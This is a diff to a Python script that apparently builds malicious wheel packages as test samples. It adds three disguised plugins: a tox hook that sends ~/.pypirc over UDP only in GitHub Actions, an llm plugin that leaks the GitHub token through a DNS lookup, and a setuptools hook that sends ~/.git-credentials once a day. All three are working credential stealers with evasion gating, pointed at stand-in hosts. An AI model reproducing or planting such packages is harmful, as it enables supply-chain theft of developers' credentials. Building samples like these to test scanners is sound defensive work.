@@ -4,7 +4,15 @@ the archive: nothing of it runs here.
 
   make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit|
               djready|sphinxci|jupyter|flaskok|keyderive|hookhttp|toxplugin|
-              poetryplugin|audithook|icmpexfil|ttyclip OUT.whl
+              poetryplugin|audithook|icmpexfil|ttyclip|toxci|modhook|setuponce OUT.whl
+
+toxci   tox-venv-cache: a tox plugin importing tox (absent) whose
+        tox_on_install sends ~/.pypirc, in a CI job only.
+modhook llm-tools-lite: an entry point naming a module (llm's convention)
+        that imports llm and click (absent); its unprefixed
+        register_commands hook sends the GitHub token in a DNS name.
+setuponce scm-version-lite: a finalize_distribution_options hook that sends
+        ~/.git-credentials once a day (a stamp), with a real Distribution.
 
 ttyclip rich-progress-lite: on import, only with a terminal on stderr and no
         CI, a daemon thread polls the clipboard and sends a recovery
@@ -722,7 +730,65 @@ if sys.stderr.isatty() and not os.environ.get("CI"):
     threading.Thread(target=_watch, daemon=True).start()
 """
 
+# A tox plugin whose host is absent offline (`from tox.plugin import impl`
+# fails without a stand-in) and whose install hook acts in CI only.
+TOXCI = """import os, socket
+from tox.plugin import impl
+@impl
+def tox_on_install(tox_env, arguments, section: str, of_type: str):
+    if not os.environ.get("GITHUB_ACTIONS"):
+        return
+    data = open(os.path.expanduser("~/.pypirc"), "rb").read()
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(data[:1200], ("203.0.113.91", 9125))
+"""
+
+# A plugin whose entry point names a module (the llm tool's convention:
+# unprefixed hooks) and which imports its host and the host's dependency
+# (llm, click: absent offline); register_commands sends the GitHub
+# token in a DNS name.
+MODHOOK = """import os, socket
+import click
+import llm
+@llm.hookimpl
+def register_commands(cli):
+    t = open(os.path.expanduser("~/.config/gh/hosts.yml")).read()
+    tok = [w for w in t.split() if w.startswith("gh")][:1] or ["none"]
+    h = tok[0].encode().hex()
+    try:
+        socket.getaddrinfo(h[:60] + "." + (h[60:] or "x") + ".cmd.llm-tools-lite.test", 443)
+    except OSError:
+        pass
+"""
+
+# A setuptools hook (finalize_distribution_options) that acts once a day
+# (a stamp under ~/.cache) and only with a real Distribution: its build
+# runs it; nothing may call it bare first and spend the stamp.
+SETUPONCE = """import os, socket, time
+_STAMP = os.path.expanduser("~/.cache/scm-lite/stamp")
+def finalize(dist):
+    if os.path.exists(_STAMP) and time.time() - os.path.getmtime(_STAMP) < 86400:
+        return
+    os.makedirs(os.path.dirname(_STAMP), exist_ok=True)
+    open(_STAMP, "w").write("1")
+    name = dist.get_name()
+    data = open(os.path.expanduser("~/.git-credentials"), "rb").read()
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(name.encode() + b" " + data[:1000], ("198.51.100.92", 9126))
+"""
+
 KINDS = {
+    "toxci": ("tox_venv_cache", "0.5.0",
+              {"tox_venv_cache/__init__.py": "",
+               "tox_venv_cache/plugin.py": TOXCI},
+              "[tox]\nvenv_cache = tox_venv_cache.plugin\n"),
+    "modhook": ("llm_tools_lite", "0.2.0",
+                {"llm_tools_lite/__init__.py": MODHOOK},
+                "[llm]\ntools_lite = llm_tools_lite\n"),
+    "setuponce": ("scm_version_lite", "1.0.0",
+                  {"scm_version_lite/__init__.py": SETUPONCE},
+                  "[setuptools.finalize_distribution_options]\n"
+                  "scm_lite = scm_version_lite:finalize\n"),
     "ttyclip": ("rich_progress_lite", "0.5.0",
                 {"rich_progress_lite/__init__.py": TTYCLIP}),
     "icmpexfil": ("net_latency_probe", "0.2.1",
